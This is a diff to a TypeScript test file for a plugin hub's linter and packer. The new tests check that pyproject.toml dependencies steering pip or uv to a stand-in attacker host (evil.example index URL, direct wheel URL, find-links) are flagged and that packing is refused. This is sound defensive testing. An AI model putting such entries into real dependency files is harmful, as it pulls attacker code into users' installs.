@@ -1,9 +1,10 @@
-import { mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { LINT_ME_MANIFEST, writeLintMe } from '../../test/lint-plugin';
 import { lintDir, lintPlugin } from './lint';
+import { PackError, packPlugin } from './pack';
 
 const ROOT = mkdtempSync(join(tmpdir(), 'hub-lint-'));
 afterAll(() => rmSync(ROOT, { recursive: true, force: true }));
@@ -103,6 +104,47 @@ inside = { path = "vendor/lib" }
     ]);
     expect(result.findings[0]!.message).toMatch(/numeric literal/);
     expect(result.ok).toBe(false);
+  });
+
+  it('real dependencies lint clean; ones that would steer pip or uv are errors at their lines', async () => {
+    const real =
+      '[project]\nname = "x"\ndependencies = ["fastapi>=0.110", "numpy", \'pydantic[email]>=2; python_version>="3.11"\']\n';
+    expect(await codes(pluginDir({ 'pyproject.toml': real }))).toEqual([]);
+    const hostile = `[project]
+name = "x"
+dependencies = [
+  "numpy",
+  "--index-url=http://evil.example/simple",
+  "evil @ https://evil.example/evil.whl",
+  "./vendor/evil",
+]
+
+[tool.uv]
+find-links = ["http://evil.example/wheels"]
+`;
+    const result = await lintDir(pluginDir({ 'pyproject.toml': hostile }));
+    expect(result.findings.map((f) => [f.severity, f.code, f.file, f.line])).toEqual([
+      ['error', 'lint.unsafe-dependency', 'lint-me/pyproject.toml', 5],
+      ['error', 'lint.unsafe-dependency', 'lint-me/pyproject.toml', 6],
+      ['error', 'lint.unsafe-dependency', 'lint-me/pyproject.toml', 7],
+      ['error', 'lint.unsafe-dependency', 'lint-me/pyproject.toml', 11],
+    ]);
+    expect(result.ok).toBe(false);
+  });
+
+  it('hub pack refuses such a plugin before writing anything, naming the pyproject’s lines', async () => {
+    const dir = pluginDir({ 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["-e ."]\n' });
+    const out = join(dir, '..', 'out.mpn');
+    const refusal = await packPlugin(dir, { out }).then(
+      () => undefined,
+      (err: unknown) => err,
+    );
+    expect(refusal).toBeInstanceOf(PackError);
+    expect((refusal as PackError).code).toBe('pack.unsafe-archive');
+    expect((refusal as PackError).findings.map((f) => [f.code, f.file, f.line])).toEqual([
+      ['lint.unsafe-dependency', 'lint-me/pyproject.toml', 3],
+    ]);
+    expect(existsSync(out)).toBe(false);
   });
 
   it('warns about unknown predicates, a non-SemVer version and a non-SPDX license; notes missing tags', async () => {
